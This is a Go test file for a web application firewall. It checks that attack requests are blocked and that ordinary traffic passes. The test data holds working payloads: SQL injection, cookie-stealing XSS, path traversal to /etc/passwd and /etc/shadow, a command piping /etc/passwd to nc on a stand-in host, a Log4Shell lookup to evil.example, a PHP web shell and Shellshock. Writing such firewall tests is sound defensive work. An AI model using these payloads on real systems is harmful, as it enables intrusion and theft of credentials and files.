package waf

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"gatehouse.internal/modules/internal/verdict"
)

func TestAttacksAreRefused(t *testing.T) {
	e := engineAt(t, 1, Block)
	const (
		sqli  = `1' UNION SELECT username, password FROM users--`
		xss   = `<script>alert(document.cookie)</script>`
		lfi   = `../../../../etc/passwd`
		rce   = `; cat /etc/passwd | nc 192.0.2.1 4444`
		log4j = `${jndi:ldap://evil.example/a}`
		php   = `<?php system($_GET['c']); ?>`
		node  = `process.mainModule.require('child_process').exec('id')`
	)
	inJSON := func(s string) *http.Request {
		return jsonBody(`{"user":{"name":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"}}`)
	}
	type row struct {
		name   string
		r      *http.Request
		family int // the rule's id / 1000
	}
	var tests []row
	for name, a := range map[string]struct {
		text   string
		family int
	}{"sqli": {sqli, 942}, "xss": {xss, 941}, "lfi": {lfi, 930}, "rce": {rce, 932}, "log4j": {log4j, 944}, "php": {php, 933}} {
		query := strings.NewReplacer("%", "%25", " ", "%20", "'", "%27", "<", "%3C", ">", "%3E", "&", "%26", "#", "%23", ";", "%3B", "?", "%3F").Replace(a.text)
		tests = append(tests,
			row{name + " in the query", get("/search?q=" + query), a.family},
			row{name + " in a form", form("q", a.text), a.family},
			row{name + " in json", inJSON(a.text), a.family},
			row{name + " in multipart", upload(a.text, "a.txt", "text/plain", "x"), a.family},
			row{name + " in plain text", body("POST", "/", "text/plain", "q="+query), a.family},
			row{name + " without a content type", chunked(body("POST", "/", "", "q="+query)), a.family},
			row{name + " under a broken content type", body("POST", "/", "application/vnd.acme", "q="+query), a.family},
		)
	}
	tests = append(tests,
		row{"xss in xml", body("POST", "/", "text/xml", "<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"), 941},
		row{"a java class as an xml element", body("POST", "/", "text/xml", "<a><java.lang.ProcessBuilder><command>x</command></java.lang.ProcessBuilder></a>"), 90},
		row{"log4j in an xml attribute", body("POST", "/", "application/atom+xml", `<a b="`+log4j+`"/>`), 944},
		row{"sqli in a cookie", get("/", "Cookie", "a=1' UNION SELECT a FROM b--"), 942},
		row{"sqli in a cookie with our name", get("/", "Cookie", "__Host-gatehouse=1' UNION SELECT a FROM b--"), 942},
		row{"log4j in the user agent", get("/", "X-Api-Version", log4j), 944},
		row{"shellshock", get("/", "Referer", "() { :; }; /bin/bash -c id"), 932},
		row{"path traversal", get("/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow"), 930},
		row{"a scanner", agent(get("/"), "sqlmap/1.8"), 913},
		row{"a restricted file", get("/.git/config"), 930},
		row{"a raw fragment hides the rest of the query", get("/?a=1#&q=" + "x"), 920},
		row{"an unknown content type", body("POST", "/", "application/foo", "x"), 920},
		row{"a content type that media is only the beginning of", body("POST", "/", "image/png, application/json", `{"a":1}`), 920},
		row{"two content types", body("POST", "/", "image/png", "x", "Content-Type", "application/json"), 90},
		row{"a compressed body", body("POST", "/", "application/json", "x", "Content-Encoding", "br"), 920},
		row{"an odd expectation", body("POST", "/", "application/json", "{}", "Expect", "something"), 920},
		row{"prototype pollution", jsonBody(`{"__proto__":{"admin":true}}`), 934},
		row{"node injection", form("q", node), 934},
		row{"a shell's name for an upload", upload("x", "shell.php", "image/png", "x"), 933},
		row{"a forged upgrade", body("POST", "/", "application/x-www-form-urlencoded", "q=%3Cscript%3Ealert(1)%3C/script%3E", "Upgrade", "websocket", "Connection", "Upgrade"), 941},
	)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, i := judge(e, tt.r)
			if v.Reason != verdict.WAFBlocked {
				t.Fatalf("verdict %+v, score %d, rules %v", v, i.found.Score, i.found.Rules)
			}
			if !slices.ContainsFunc(i.found.Rules, func(id int) bool { return id/1000 == tt.family }) {
				t.Errorf("rules %v, want one of %d000", i.found.Rules, tt.family)
			}
			if i.found.Message == "" {
				t.Error("no message")
			}
			if slices.ContainsFunc(i.found.Rules, counts) {
				t.Errorf("rules %v hold one that only counts", i.found.Rules)
			}
		})
	}
}

func agent(r *http.Request, ua string) *http.Request {
	r.Header.Set("User-Agent", ua)
	return r
}

// chunked makes the length unknown.
func chunked(r *http.Request) *http.Request {
	r.ContentLength, r.TransferEncoding = -1, []string{"chunked"}
	r.Header.Del("Content-Length")
	return r
}

func TestBenignTrafficPasses(t *testing.T) {
	e := engineAt(t, 1, Block)
	deploy := `{"flows":[{"id":"f6f2187d.f17ca8","type":"tab","label":"Flow 1","disabled":false,"info":""},` +
		`{"id":"3cc11d24.ff01a2","type":"inject","z":"f6f2187d.f17ca8","name":"","props":[{"p":"payload"},{"p":"topic","vt":"str"}],"repeat":"","crontab":"","once":false,"onceDelay":0.1,"topic":"","payload":"","payloadType":"date","x":140,"y":80,"wires":[["a1b2c3d4.e5f6"]]},` +
		`{"id":"a1b2c3d4.e5f6","type":"function","z":"f6f2187d.f17ca8","name":"double","func":"msg.payload = msg.payload * 2;\nreturn msg;","outputs":1,"timeout":0,"noerr":0,"initialize":"","finalize":"","libs":[],"x":320,"y":80,"wires":[["99.1"]]},` +
		`{"id":"99.1","type":"debug","z":"f6f2187d.f17ca8","name":"","active":true,"tosidebar":true,"console":false,"tostatus":false,"complete":"false","statusVal":"","statusType":"auto","x":480,"y":80,"wires":[]}],"rev":"9a3b"}`
	session := "__Host-gatehouse_session=" + strings.Repeat("aZ09-_", 8)
	tests := []struct {
		name string
		r    *http.Request
	}{
		{"a page", get("/")},
		{"a page with cookies", get("/wiki/Main_Page?action=edit&section=2", "Cookie", "theme=dark; lang=de; "+session, "Referer", "https://app.example.com/wiki/Main_Page")},
		{"a search", get("/search?q=how+to+bake+bread&page=2&sort=date")},
		{"umlauts", get("/suche?q=%C3%9Cber+M%C3%BCnchen")},
		{"a name with an apostrophe", form("name", "O'Brien", "city", "L'Aquila")},
		{"a comment", form("comment", "I think that's great - thanks & see you at 10:30! Price: 5 < 6 EUR.")},
		{"a json api", jsonBody(`{"id":17,"name":"Ada Lovelace","email":"ada@example.com","tags":["a","b"],"nested":{"ok":true,"n":null}}`)},
		{"a patch", body("PATCH", "/api/users/17", "application/merge-patch+json", `{"name":"Ada"}`)},
		{"a put of an image", body("PUT", "/files/a.png", "image/png", "\x89PNG\r\n\x1a\n\x00\x00' OR 1=1 --")},
		{"a binary stream", body("POST", "/files", "application/octet-stream", "\x00\x01<b>' OR 1=1 --\xff")},
		{"an upload", upload("holiday", "IMG_2031.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF")},
		{"an empty post", body("POST", "/logout", "application/x-www-form-urlencoded", "")},
		{"a delete", dressed(httpRequest("DELETE", "/api/users/17"))},
		{"options", dressed(httpRequest("OPTIONS", "/api"))},
		{"head", dressed(httpRequest("HEAD", "/"))},
		{"a node-red deploy", body("POST", "/flows", "application/json; charset=UTF-8", deploy, "Node-RED-API-Version", "v2", "Node-RED-Deployment-Type", "full", "X-Requested-With", "XMLHttpRequest")},
		{"a websocket handshake", get("/comms", "Upgrade", "websocket", "Connection", "Upgrade", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version", "13", "Origin", "https://app.example.com")},
		{"an event stream", get("/events", "Accept", "text/event-stream", "Last-Event-Id", "42")},
		{"curl's expectation", body("POST", "/api", "application/json", `{"a":1}`, "Expect", "100-continue")},
		{"chunked json", chunked(jsonBody(`{"a":1}`))},
		{"svg", body("PUT", "/a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`)},
		{"a csp report", body("POST", "/csp", "application/csp-report", `{"csp-report":{"document-uri":"https://app.example.com/"}}`)},
		{"grpc-web", body("POST", "/svc.Service/Call", "application/grpc-web+proto", "\x00\x00\x00\x00\x02\x08\x01")},
		{"a range", get("/video.mp4", "Range", "bytes=0-1023")},
		{"an if-none-match", get("/app.js", "If-None-Match", `W/"5f-abc"`)},
		{"a provider's callback", get("/.gatehouse/login/oidc/callback?state=a.b-c_d&code=4%2F0AX4XfWh&scope=email%20profile%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.profile&authuser=0&prompt=consent")},
		{"a bearer token", get("/api", "Authorization", "Bearer "+strings.Repeat("eyJhbGciOi.", 20))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if v, i := judge(e, tt.r); v.Given() {
				t.Fatalf("verdict %+v, score %d, rules %v: %s", v, i.found.Score, i.found.Rules, i.found.Message)
			}
		})
	}
}

func httpRequest(method, target string) *http.Request {
	r := get(target)
	r.Method = method
	return r
}
